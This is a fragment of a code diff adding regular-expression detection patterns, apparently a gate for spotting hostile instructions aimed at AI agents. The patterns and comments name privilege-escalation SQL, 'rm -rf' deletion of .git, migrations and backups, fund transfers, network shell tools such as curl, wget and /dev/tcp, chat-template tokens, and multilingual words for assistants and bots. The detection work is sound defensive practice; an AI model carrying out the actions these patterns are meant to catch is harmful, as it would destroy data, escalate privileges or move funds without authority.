+      String.raw`\bupdate\s+\S*(?:users?|accounts?|members?|roles?)\S*\s+set\b[^;\n]{0,80}\b(?:role|is_admin|is_staff|is_superuser|admin|permissions?|privileges?)\b\s*=\s*(?:["'\x60]?(?:admin|administrator|owner|superuser|root)\b|true\b|1\b)|\bgrant\s+all(?:\s+privileges)?\b[^;\n]{0,80}\bto\b|\balter\s+(?:user|role)\b[^;\n]{0,60}\bsuperuser\b`,
+      // (the repository's own history, tests, migrations, backups or data deleted: `rm -rf ../migrations .git/refs`)
+      String.raw`\brm\s+-(?:rf|fr|r)\s+(?:[^\s;&|\x60]+\s+){0,4}?(?:[^\s;&|\x60]*/)?(?:\.git|tests?|migrations?|backups?|data)(?=[/\s"'\x60;]|$)`,
       String.raw`\brewrite\b(?:[^.\n]|\.(?=\S)){0,30}\b(?:LICENSE|licen[cs]e|README|history)\b|\bproprietary licen[cs]e\b`,
       String.raw`\b(?:approve|merge)\b(?:[^.\n]|\.(?=\S)){0,40}\b(?:and|then) (?:state|say|claim|report)\b`,
       String.raw`\b(?:transfer|send|move)\b(?:[^.\n]|\.(?=\S)){0,30}\b(?:funds|payments?|money|crypto|BTC|ETH|wallet)\b`,
@@ -766,6 +944,13 @@ export const GATE = new RegExp(
       ...words('install index-url registry settings approval mcp skip im_start im_end tool_result function_results'),
       ...words('web_fetch run_shell read_file write_file read_many curl wget invoke- base64 mkfifo download'),
       ...words('base_url api_base otlp logprompts _proxy reviewer helping assisting'),
+      // (automated tools, assistants and bots named in other languages: ADDRESS's entries for them)
+      // (not "automat", "instrument": "automatically" and "instrumentation" stand in English docs all day)
+      ...words('automatizad automatisierte geautomatiseerd automaty otomat herramient ferrament outil narz'),
+      ...words('werkzeug skrypt assistent asystent automatick automatizov automatiser'),
+      String.raw`automatic[oi]\b`,
+      String.raw`automat(?:u|owi)\b`,
+      String.raw`strument[oi]\b`,
       String.raw`~/\.`,
       'end of',
       'the user',
@@ -780,7 +965,8 @@ export const GATE = new RegExp(
       trieSource(literal),
       String.raw`--no-verify|\[inst|<<sys|\[tool|/dev/tcp|\b(?:iwr|irm|npx|iex)\b`,
       String.raw`@(?:agent|assistant|ai\b|claude|qwen|gemini|copilot|codex|cursor)|://[^\s)]*[?&][\w-]+=`,
-      String.raw`助手|智能|模型|代理|用户|エージェント|アシスタント|ユーザー|에이전트|어시스턴트|인공지능|사용자|asistente|assistente|agente|нейросет|агент|ассистент|помощник|пользовател|ии|وكيل|وكلاء|مساعد|نموذج|الذكاء الاصطناعي|المستخدم|تجاهل|\bki-|\bki\b|\bia\b`,
+      // (automated tools, assistants and bots named in other scripts among them: ADDRESS's entries)
+      String.raw`αυτοματοποι|μποτ|אוטומטי|בוט|อัตโนมัติ|บอท|ボット|自動|自动|자동화|स्वचालित|सहायक|बॉट|آلي|помічник|автомат|(?<![а-яё])бот|công cụ|trợ lý|助手|智能|模型|代理|用户|エージェント|アシスタント|ユーザー|에이전트|어시스턴트|인공지능|사용자|нейросет|агент|ассистент|помощник|пользовател|ии|وكيل|وكلاء|مساعد|نموذج|الذكاء الاصطناعي|المستخدم|تجاهل|asistente|assistente|agente|\bki-|\bki\b|\bia\b`,
     ].join('|');
   })(),
 );
